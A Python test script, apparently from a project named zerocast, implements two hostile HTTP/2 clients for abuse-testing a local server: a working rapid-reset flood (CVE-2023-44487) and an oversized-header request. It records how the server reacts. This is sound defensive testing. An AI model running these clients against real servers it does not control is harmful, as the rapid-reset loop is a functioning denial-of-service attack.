#!/usr/bin/env python3
"""Hostile HTTP/2 clients for the zerocast abuse tests (hyper-h2 over a real TLS socket).

    python3 tests/h2/attack.py --connect 127.0.0.1:8443 --path /api/streams rapid-reset [--streams N]
    python3 tests/h2/attack.py --connect 127.0.0.1:8443 --path /api/streams big-headers [--bytes N]

rapid-reset  opens streams and resets each one at once (HEADERS then RST_STREAM, CVE-2023-44487),
             as fast as the socket takes them, until the server ends the connection or N
             streams were sent.
big-headers  sends one request whose header list is N bytes.

Prints one line of JSON: what was sent and how the server reacted (GOAWAY and its error code,
RST_STREAM codes, response statuses, whether the connection closed). Exit 0 when the attack
ran, 2 when it could not (no TLS, no h2).
"""

import argparse
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings


def connect(host, port):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=10)
    s = ctx.wrap_socket(raw, server_hostname="localhost")
    if s.selected_alpn_protocol() != "h2":
        print(f"attack.py: server chose ALPN {s.selected_alpn_protocol()!r}", file=sys.stderr)
        sys.exit(2)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    # Let us send header lists larger than the server's advertised limit (that is the attack).
    conn.local_settings = h2.settings.Settings(client=True)
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


class Observer:
    def __init__(self):
        self.goaway = None
        self.resets = {}
        self.statuses = {}
        self.closed = False

    def feed(self, conn, data):
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            self.goaway = self.goaway or f"client protocol error: {e}"
            return
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = str(ev.error_code)
            elif isinstance(ev, h2.events.StreamReset):
                k = str(ev.error_code)
                self.resets[k] = self.resets.get(k, 0) + 1
            elif isinstance(ev, h2.events.ResponseReceived):
                st = dict(ev.headers).get(":status", "?")
                self.statuses[st] = self.statuses.get(st, 0) + 1

    def pump(self, sock, conn, wait):
        sock.settimeout(wait)
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    self.closed = True
                    return
                self.feed(conn, data)
                out = conn.data_to_send()
                if out:
                    sock.sendall(out)
                sock.settimeout(0.001 if wait == 0 else wait)
        except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
            return
        except (ConnectionError, ssl.SSLError, OSError):
            self.closed = True


def headers(authority, path, extra=()):
    return [(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path), *extra]


def rapid_reset(a, host, port):
    sock, conn = connect(host, port)
    obs = Observer()
    sent = 0
    start = time.monotonic()
    sid = 1
    try:
        while sent < a.streams and not obs.closed and obs.goaway is None:
            for _ in range(50):
                conn.send_headers(sid, headers(f"{host}:{port}", a.path), end_stream=True)
                conn.reset_stream(sid, error_code=8)  # CANCEL
                sid += 2
                sent += 1
            sock.sendall(conn.data_to_send())
            obs.pump(sock, conn, 0)
    except (ConnectionError, ssl.SSLError, OSError, h2.exceptions.ProtocolError):
        obs.closed = True
    obs.pump(sock, conn, 2.0)
    return {"attack": "rapid-reset", "streams_sent": sent, "goaway": obs.goaway, "closed": obs.closed,
            "resets": obs.resets, "statuses": obs.statuses,
            "seconds": round(time.monotonic() - start, 3)}


def big_headers(a, host, port):
    sock, conn = connect(host, port)
    obs = Observer()
    pad = "x" * 1000
    extra = [(f"x-pad-{i}", pad) for i in range(max(1, a.bytes // 1000))]
    try:
        conn.send_headers(1, headers(f"{host}:{port}", a.path, extra), end_stream=True)
        sock.sendall(conn.data_to_send())
    except (ConnectionError, ssl.SSLError, OSError, h2.exceptions.ProtocolError):
        obs.closed = True
    obs.pump(sock, conn, 3.0)
    # The connection is still usable for a normal request unless the server closed it.
    follow_up = None
    if not obs.closed and obs.goaway is None:
        try:
            conn.send_headers(3, headers(f"{host}:{port}", a.path), end_stream=True)
            sock.sendall(conn.data_to_send())
            obs.pump(sock, conn, 3.0)
            follow_up = obs.statuses.get("200", 0) > 0
        except (ConnectionError, ssl.SSLError, OSError, h2.exceptions.ProtocolError):
            obs.closed = True
    return {"attack": "big-headers", "header_bytes": sum(len(k) + len(v) for k, v in extra),
            "goaway": obs.goaway, "closed": obs.closed, "resets": obs.resets,
            "statuses": obs.statuses, "follow_up_ok": follow_up}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--connect", required=True)
    ap.add_argument("--path", default="/api/streams")
    sub = ap.add_subparsers(dest="attack", required=True)
    r = sub.add_parser("rapid-reset")
    r.add_argument("--streams", type=int, default=20000)
    b = sub.add_parser("big-headers")
    b.add_argument("--bytes", type=int, default=64 * 1024)
    a = ap.parse_args()
    host, port = a.connect.rsplit(":", 1)
    try:
        res = rapid_reset(a, host, int(port)) if a.attack == "rapid-reset" else big_headers(a, host, int(port))
    except (ConnectionError, ssl.SSLError, OSError) as e:
        print(f"attack.py: {type(e).__name__}: {e}", file=sys.stderr)
        sys.exit(2)
    print(json.dumps(res))


if __name__ == "__main__":
    main()
